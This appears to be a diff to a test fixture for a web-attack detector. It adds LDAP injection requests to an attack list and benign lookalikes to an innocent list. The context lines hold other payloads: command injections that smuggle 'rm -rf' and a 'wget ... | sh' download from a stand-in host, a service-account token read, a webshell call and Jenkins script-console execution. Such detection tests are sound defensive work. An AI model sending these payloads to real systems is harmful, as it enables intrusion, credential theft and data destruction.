@@ -55,6 +55,9 @@ const ATTACKS: readonly (readonly [kind: string, request: string])[] = [
   ['web.path-traversal', post('/run/kube-system/proxy/proxy', 'cmd=cat /var/run/secrets/kubernetes.io/serviceaccount/token')],
   ['web.command-injection', post('/api/ping', '{"host":"a.example; rm -rf /tmp/x"}')],
   ['web.command-injection', post('/api/device', '{"name":"my new device; wget http://192.0.2.9/a | sh"}')],
+  ['web.ldap-injection', get('/search?user=*)(uid=*))(%7C(uid=*')],
+  ['web.ldap-injection', post('/login', 'user=admin)(%26)&pass=x')],
+  ['web.ldap-injection', post('/login', 'user=*)(%7C(userPassword=*)')],
   ['web.webshell', get('/up/s.php?cmd=whoami')],
   ['web.command-injection', post('/script', 'script=println+%22id%22.execute%28%29.text&Submit=Run')],
   ['web.command-injection', post('/jenkins/scriptText', "script=def+p=%5B'bash','-c','id'%5D.execute();")],
@@ -63,6 +66,10 @@ const ATTACKS: readonly (readonly [kind: string, request: string])[] = [
 ] // prettier-ignore
 
 const INNOCENT = [
+  get('/directory?filter=(%26(objectClass=user)(cn=bob*))'),
+  get('/plot?f=sin(x)*(a=2)'),
+  post('/comment', 'text=thanks+:)+(see+a=b)'),
+  get('/wiki?title=Mercury_(planet)_(disambiguation)'),
   get('/search?q=how+to+use+union+select+in+mysql'),
   get('/search?q=select+a+plan+from+our+list'),
   get('/search?q=how+to+select+from+table+where+id+%3D+1+or+union+all+select+tutorial'),
